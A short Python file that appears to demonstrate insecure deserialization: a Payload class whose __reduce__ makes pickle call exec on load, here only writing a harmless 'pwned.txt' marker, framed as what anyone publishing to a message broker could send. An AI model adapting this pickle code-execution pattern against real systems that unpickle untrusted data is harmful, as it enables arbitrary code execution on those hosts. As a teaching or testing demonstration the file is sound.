"""What anyone who can publish to your broker could send: a pickle that runs code when it is loaded."""


class Payload:
    def __reduce__(self):
        # pickle stores "call exec() with this string"; loading the pickle makes that call
        return (exec, ("open('pwned.txt', 'w').write('written while unpickling\\n')",))
